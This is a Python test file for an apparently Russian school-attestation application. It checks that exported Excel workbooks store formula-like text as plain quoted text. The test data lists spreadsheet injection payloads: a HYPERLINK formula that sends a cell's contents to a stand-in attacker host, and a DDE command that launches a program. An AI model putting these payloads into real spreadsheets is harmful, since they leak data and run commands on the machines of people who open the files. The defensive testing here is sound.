"""Workbooks the application writes: a name or a CMM stem that looks like a formula is text, numbers stay numbers."""
import io
import re
import zipfile

import openpyxl

from core.attestation_monitoring.workbook import report_workbook
from core.workbooks import workbook_bytes

HOSTILE = ('=HYPERLINK("http://evil.example/?"&A1,"Открыть")', "=cmd|' /C calc'!A0", "+1+2", "-2+3",
           "@SUM(A1:A2)", "\t=1+1", "\r=1+1")


def formulas_in(data):
    """The formulas (``<f>`` elements) of every sheet of an .xlsx file."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return [formula for name in archive.namelist() if name.startswith("xl/worksheets/")
                for formula in re.findall(rb"<f[ >].*?</f>|<f/>", archive.read(name))]


def cells(data):
    """``{value: cell}`` of every non-empty cell of every sheet, read back with openpyxl (formulas as written)."""
    book = openpyxl.load_workbook(io.BytesIO(data))
    return {cell.value: cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row
            if cell.value is not None}


def test_text_that_looks_like_a_formula_is_written_as_text_that_stays_text_when_edited():
    book = openpyxl.Workbook()
    book.active.append(["Школа", "Доля", "Число"])
    for text in HOSTILE:
        book.active.append([text, 0.25, -7])
    data = workbook_bytes(book)
    assert formulas_in(data) == []
    found = cells(data)
    for text in HOSTILE:
        cell = found[text]
        assert (cell.data_type, cell.quotePrefix) == ("s", True)
    assert (found[0.25].data_type, found[-7].data_type) == ("n", "n")
    assert not found["Школа"].quotePrefix


def test_a_cmm_stem_beginning_with_equals_is_text_in_the_monitoring_workbook():
    rate = {"title": "=1+1", "code": "first", "participants": 3, "assessed": 2, "passed": 1, "rate": 0.5}
    item = {"code": "fed-x", "kind": "single", "competence": "law", "level": "basic", "versions": [1],
            "exposure": 3, "answers": 3, "difficulty": 0.5, "point_biserial": None, "upper_lower": None,
            "stem": "=cmd|' /C calc'!A0"}
    figures = {"region_title": "Свердловская область", "year": 2026, "states": [{"title": "Аттестован", "count": 1}],
               "overall": {"assessed": 2, "passed": 1, "rate": 0.5}, "thresholds": [],
               "by_category": [rate], "by_school_type": [], "by_municipality": [], "items": [item]}
    data = report_workbook(figures)
    assert formulas_in(data) == []
    found = cells(data)
    assert found["=cmd|' /C calc'!A0"].data_type == "s" and found["=1+1"].data_type == "s"
    assert found[0.5].data_type == "n"
